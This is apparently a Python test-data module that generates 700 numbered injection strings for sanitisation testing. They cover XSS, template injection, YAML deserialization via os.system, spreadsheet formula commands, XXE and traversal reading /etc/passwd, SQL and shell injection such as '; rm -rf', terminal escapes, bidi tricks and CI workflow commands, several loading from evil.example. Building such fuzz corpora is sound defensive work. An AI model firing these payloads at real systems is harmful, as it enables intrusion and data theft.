"""Seven hundred texts that somebody might send to make a page, a program or a terminal do what it should not.

All are of our own making, put together from kinds and parts. Where a text would run, it calls `ran` with its number,
so that a browser that knows this function tells which one it was.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import chain, product, zip_longest

NUMBER = 700
_RUN = "ran(N)"
_ELEMENTS = (
    "<script>R</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=R>", "<svg onload=R>",
    "<iframe src='javascript:R'></iframe>", "<iframe srcdoc='<script>parent.R</script>'></iframe>",
    "<object data='data:text/html,<script>R</script>'></object>", "<embed src='javascript:R'>",
    "<video><source onerror=R></video>", "<audio src=x onerror=R></audio>", "<details open ontoggle=R>x</details>",
    "<body onload=R>", "<style>@import '//evil.example/x.css';</style>", "<link rel=stylesheet href=//evil.example/x>",
    "<meta http-equiv=refresh content='0;url=javascript:R'>", "<base href=//evil.example/>",
    "<form action=javascript:R><button>x</button></form>", "<input autofocus onfocus=R>", "<marquee onstart=R>x</marquee>",
    "<math><mtext><img src=x onerror=R></mtext></math>", "<template><script>R</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=R>'>", "<textarea></textarea><script>R</script>",
    "<title></title><img src=x onerror=R>", "<select autofocus onfocus=R>", "<button onclick=R>x</button>",
    "<xmp><script>R</script></xmp>", "<plaintext><script>R</script>", "<a href=javascript:R>x</a>",
    "<a href='https://a.example' onclick=R>x</a>", "<p style='background:url(javascript:R)'>x</p>",
    "<div/onmouseover=R>x</div>", "<IMG SRC=x OnErRoR=R>", "<img/src='x'/onerror=R>", "<img src=x onerror\n=R>",
    "<<script>R//<</script>", "<scr<script>ipt>R</scr</script>ipt>", "<script>R", "<!--><script>R</script>-->",
    "<![if !x]><script>R</script><![endif]>", "<x onclick=R tabindex=1 autofocus>x</x>", "<table background=javascript:R>",
    "<keygen autofocus onfocus=R>", "<portal src=javascript:R>", "<dialog open onclose=R>x</dialog>",
    "<image src=x onerror=R>", "<isindex action=javascript:R>", "<frameset onload=R>", "<q cite=javascript:R>x</q>",
    "<bdo dir=rtl>x</bdo><script>R</script>", "<em onanimationstart=R style=animation:x>x</em>",
    "<code class=language-js onclick=R>x</code>", "<s></s></bdi></p></div></main></body><script>R</script>",
)  # fmt: skip
_HANDLERS = ("onerror", "onload", "onmouseover", "onfocus autofocus onblur", "onclick", "ontoggle", "onpointerenter")
_ADDRESSES = (
    "javascript:R", "JaVaScRiPt:R", "java\tscript:R", "java&#9;script:R", "&#106;avascript:R", "&#x6A;avascript:R",
    "javascript&colon;R", " javascript:R", "vbscript:R", "data:text/html,<script>R</script>",
    "data:text/html;base64,PHNjcmlwdD5yYW4oMCk8L3NjcmlwdD4=", "data:image/svg+xml,<svg onload=R>", "blob:R",
    "file:///etc/passwd", "view-source:javascript:R", "//evil.example/", "\\\\evil.example\\x", "https:evil.example",
    "https://a.example@evil.example/", "https://user:word@a.example/", "jar:https://a.example!/x", "%6aavascript:R",
    "https://a.example/\"onclick=R//", "https://a.example/'onclick=R//", "feed:javascript:R",
)  # fmt: skip
_LINKS = ("[x]({})", "<{}>", "<a href=\"{}\">x</a>", "[x]: {}", "{}", "[x][y] [y]: {}", "![x]({})")  # fmt: skip
_STYLES = (
    "}}*{{background:url(//evil.example/N)}}", "expression(R)", "</style><script>R</script>", "url(javascript:R)",
    "@import url(//evil.example/N);", "\\65xpression(R)", "/**/x:y", "--x:url(//evil.example/N)", "{{}}</style>",
    "x{{behavior:url(x.htc)}}", "-moz-binding:url(//evil.example/x)", ";}}body{{display:none}}",
)  # fmt: skip
_DRAWINGS = (
    "<svg><script>R</script></svg>", "<svg><a xlink:href='javascript:R'><text>x</text></a></svg>",
    "<svg><animate onbegin=R attributeName=x dur=1s>", "<svg><set attributeName=onclick to=R>",
    "<svg><foreignObject><img src=x onerror=R></foreignObject></svg>", "<svg><use href='data:image/svg+xml,x#y'/></svg>",
    "<svg><image href='//evil.example/x'/></svg>", "</text></svg><script>R</script>", "</title></svg><script>R</script>",
    "<svg><style>*{{x:expression(R)}}</style></svg>", "]]></style></svg><script>R</script>", "<svg/onload=R>",
)  # fmt: skip
_SCRIPTS = (
    "';R;'", '";R;"', "`;R;`", "${R}", "'-R-'", '"-R-"', "\\';R;//", '\\";R;//', "</script><script>R</script>",
    "<!--<script>", "--></script><script>R</script>", "\\u003cscript\\u003eR\\u003c/script\\u003e", "*/R/*", "//\\nR",
    "'}});R;({{'", '"]}}}};R//', "\\x3cscript\\x3eR\\x3c/script\\x3e", "__proto__", "constructor", "toString",
    "hasOwnProperty", '{{"__proto__":{{"x":1}}}}', "</ScRiPt ><img src=x onerror=R>", "import('//evil.example/N.js')",
    "&quot;;R;&quot;", "&#39;;R;&#39;", "NaN", "undefined", "[object Object]", "%22%3BR%3B%22",
)  # fmt: skip
_TEMPLATES = (
    "{{{{ 7 * N }}}}", "{{% for x in y %}}", "{{# x", "{{{{ ''.__class__.__mro__ }}}}", "{{{{ config }}}}", "{{% raw %}}",
    "{{% endraw %}}{{{{ 7 * N }}}}", "{{{{ self.__init__.__globals__ }}}}", "{{% include '/etc/passwd' %}}", "${{{{ N }}}}",
    "<%= 7 * N %>", "#{{7 * N}}", "{{{{{{ N }}}}}}", "{{% extends 'x' %}}", "{{{{ cycler.__init__ }}}}", "%(title)s", "{{0}}",
    "{{title}}", "{{title.__class__}}", "%s%n%x", "$title", "\\1\\g<0>", "{{% if %}}", "{{{{", "}}}}", "%}}", "@title",
    "<?php R ?>", "<!--#exec cmd='id' -->", "[[opening]]", "[[nobody|R]]", "::: timeline", "\x00plain\x00"[1:-1],
)  # fmt: skip
_MARKDOWN = (
    "![x](x\" onerror=\"R)", "[x](https://a.example \"\" onclick=R \"\")", "x{{: onclick=R }}", "*[HTML]: R",
    "--8<-- \"/etc/passwd\"", "# R", "> R", "```js R ```", "`<script>R</script>`", "``` {{.x onclick=R}}", "[^1]: R",
    "- [ ] R", "1. R", "***R***", "__R__", "~~R~~", "==R==", "^^R^^", ":smile:", "<https://a.example/<script>R</script>>",
    "[x](<javascript:R>)", "[x](https://a.example/) {{onclick=R}}", "\\<script>R\\</script>", "&lt;script&gt;R&lt;/script&gt;",
    "!!! danger R", "??? note R", "=== R", "\\[R\\]", "$$R$$", "[TOC]", "+++R+++", "<!-- R -->", "| a | b | R", "---", "***",
    "[[[[[[[[R", "****R****", "[x](https://a.example/(((R", "``R`", "[a][b][c][R]", "\x02wzxhzdk:0\x03"[1:-1], "_*_*R_*_*",
)  # fmt: skip
_YAML = (
    "!!python/object/apply:os.system [R]", "!!binary R", "&a *a R", "<<: *a", "--- R", "... R", "# R", "a: R", "- R", "? R",
    "| R", "> R", "%YAML 1.1 R", "@R", "`R`", "{{a: R}}", "[R]", "null", "~", "yes", "0o17", "1e3", ".inf", "2025-01-01",
    "12:30:45", "'R", '"R', "''", '"" R', "a #R", "R:", ": R", "0x1F", "1_000", "=", "<<", "!R", "*R", "&R", "- - R",
)  # fmt: skip
_CELLS = (
    "HYPERLINK(\"https://evil.example/?\"&A1,\"R\")", "cmd|'/C calc'!A0", "1+1", "IMPORTXML(\"https://evil.example\",\"R\")",
    "WEBSERVICE(\"https://evil.example/N\")", "SUM(1+1)*cmd|' /C calc'!A0", "R", "A1",
)  # fmt: skip
_CELL_SIGNS = ("=", "+", "-", "@", "'=", '"=', "\uff1d", "\uff0b", "\uff0d", "\uff20")
_TERMINAL = (
    "\x1b[31mR", "\x1b[2J\x1b[H", "\x1b]0;R\x07", "\x1b]8;;https://evil.example\x07R\x1b]8;;\x07", "\x9b31mR",
    "\x1b]52;c;R\x07", "\x08\x08\x08R", "R\x07", "\x1bP$qR\x1b\\", "\x1b[6n", "\x0e R", "\x7fR", "\x1b[?1049hR", "\x1bcR",
    "\\x1b[31mR", "\\033[31mR", "^[[31mR", "R\r no problems", "R\n no problems", "R\x0bx", "R\x0cx", "R\x85x",
)  # fmt: skip
_DIRECTIONS = (
    "\u202eR", "\u202dR\u202c", "\u2066R\u2069", "\u2067R", "a\u200eR", "a\u200fR", "\u061cR", "R\u2028x", "R\u2029x",
    "gpj.exe\u202e", "שלום R عالم", "R\u200bx", "R\u2060x", "\ufeffR", "R\u00adx", "R\U000e0041x", "R\U000e007f", "ﷺR", "Z\u0351\u0346R",
)  # fmt: skip
_COMMANDS = (
    "::error file=a.yaml,line=1::R", "::set-output name=x::R", "::add-mask::R", "::stop-commands::R", "##[error]R",
    "%0A::error::R", "\n::error::R", "\r\n::warning::R", "::set-env name=PATH::R", "::save-state name=x::R", "::debug::R",
    "::group::R", "::endgroup::", "##vso[task.setvariable variable=x]R", "echo ::error::R", "$GITHUB_ENV R",
    "${{{{ secrets.TOKEN }}}}", "${{{{ github.event.issue.title }}}}", "@everyone R", "Fixes #1 R", "%25R%0D%0A", "::notice::",
)  # fmt: skip
_CALENDARS = (
    "\nATTENDEE:mailto:a@evil.example", "\r\nBEGIN:VALARM\r\nACTION:AUDIO", "\\nEND:VEVENT", "\\, \\; \\\\ R", "a;b,c:d R",
    "END:VCALENDAR", "DTSTART:20250101", f"{'x' * 64}🌉{'x' * 70}", f"{'桥' * 25}R{'桥' * 25}", f"{'x' * 66}\\n R",
    "X;VALUE=URI:javascript:R", "\r\n R", "^n^' R",
)  # fmt: skip
_MARKUP = (
    "&xxe; R", "<!DOCTYPE x [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]>", "<![CDATA[R]]>", "]]>R", "<?xml version='1.0'?>",
    "<?xml-stylesheet href='javascript:R'?>", "&#0;R", "&#x1;R", "&lol9;", "<x:include href='file:///etc/passwd'/>",
    "</title></entry><entry>R", "</content><script>R</script>", "&amp;amp;lt;R", "&notin; &nbsp; &#8238; R", "<xhtml:script>R",
    "&#xD800;R", "&#1114112;R", "<a xmlns='x' R='y'/>", "</div></content></entry></feed>R",
)  # fmt: skip
_PATHS = (
    "../../../../etc/passwd", "..\\..\\..\\x", "%2e%2e%2fR", "/etc/passwd", "C:\\x\\R", "R.html", "CON", "NUL.txt", "a/../R",
    "....//....//R", "file\\\\x", "~root/R", "R/", "index.html", "assets/timeline/x.js", "-rf", "--help", "-o R", "a%00b R",
    "https://a.example/../R", ".git/config", "robots.txt", "R?x=1#y", "a b/R c", "\u2024\u2024/R",
)  # fmt: skip
_BROKEN = (
    "R\x00x", "\ud800R", "R\udfff", "\ufffeR", "R\uffff", "\x01R", "R\x1fx", "R\x80x", "\x9fR", "R\ufff9x", "\U000e0001R",
)  # fmt: skip
_ALIKE = (
    "оpening R", "ореning", "OPENING R", "opening\u0301 R", "ｏｐｅｎｉｎｇ", "0pening R", "op\u0435ning", "openıng R", "ΟPENING",
    "ﬁle R", "K R", "ſcript R", "＜script＞R＜/script＞", "‹script›R‹/script›", "аdmin R",
)  # fmt: skip
_LANGUAGES = (
    "'; DROP TABLE events; --", "\" OR \"\"=\"", "x' UNION SELECT R --", "NEAR(R)", "R*", "\"R", "-R", "$(touch R)", "`touch R`",
    "; rm -rf R", "| sh R", "&& R", "\\input{{/etc/passwd}}", "}}, note = {{R", "\\write18{{R}}", "@article{{R,", "ER  - ",
    "TY  - JOUR", "%R", "\\end{{document}}", "$R$", '","x":"R', "\\u0022R", "\\", "\\\\", "\\n", '"', "'", "(a+)+$ R", ".* R", "[R",
    "R)", "a{{99999}}", "^R$", "\\p{{L}} R", "?R", "R|x", "<<EOF R", "%PATH% R", "!R!", "${{PATH}} R", "`R", "''R''", "cite: R",
)  # fmt: skip


def kinds() -> dict[str, list[str]]:
    """All texts by what they would break, with `R` and `N` filled in."""
    breaking = (
        f"{quote}{end}{handler}=R x={quote}" for quote, end, handler in product("\"'`", (" ", ">", "/"), _HANDLERS)
    )
    addresses = (form.format(address) for form, address in product(_LINKS, _ADDRESSES))
    cells = (f"{sign}{formula}" for sign, formula in product(_CELL_SIGNS, _CELLS))
    raw: dict[str, list[str]] = {
        "elements": list(_ELEMENTS), "attributes": list(breaking), "addresses": list(addresses),
        "styles": _filled(_STYLES), "drawings": _filled(_DRAWINGS), "scripts": _filled(_SCRIPTS),
        "templates": _filled(_TEMPLATES), "Markdown": _filled(_MARKDOWN), "YAML": _filled(_YAML), "cells": list(cells),
        "terminal": list(_TERMINAL), "directions": list(_DIRECTIONS), "workflow commands": _filled(_COMMANDS),
        "calendars": list(_CALENDARS), "XML": list(_MARKUP), "paths": list(_PATHS), "broken": list(_BROKEN),
        "alike": list(_ALIKE), "other languages": _filled(_LANGUAGES),
    }  # fmt: skip
    count = iter(range(1, 10_000))
    return {kind: [_numbered(text, next(count)) for text in texts] for kind, texts in raw.items()}


def texts() -> list[str]:
    """The first seven hundred, of all kinds in turns, each once."""
    in_turns = chain.from_iterable(zip_longest(*kinds().values()))
    return list(dict.fromkeys(text for text in in_turns if text is not None))[:NUMBER]


def _filled(texts: tuple[str, ...]) -> list[str]:
    """Those in which braces were doubled."""
    return [text.replace("{{", "{").replace("}}", "}") for text in texts]


def _numbered(text: str, number: int) -> str:
    run = _RUN.replace("N", str(number))
    return "".join(_letters(text, run, number))


def _letters(text: str, run: str, number: int) -> Iterator[str]:
    """`R` and `N` stand alone where they are meant."""
    for at, letter in enumerate(text):
        before, after = text[at - 1 : at], text[at + 1 : at + 2]
        alone = not (before.isascii() and before.isalnum()) and not (after.isascii() and after.isalnum())
        yield run if letter == "R" and alone else str(number) if letter == "N" and alone else letter
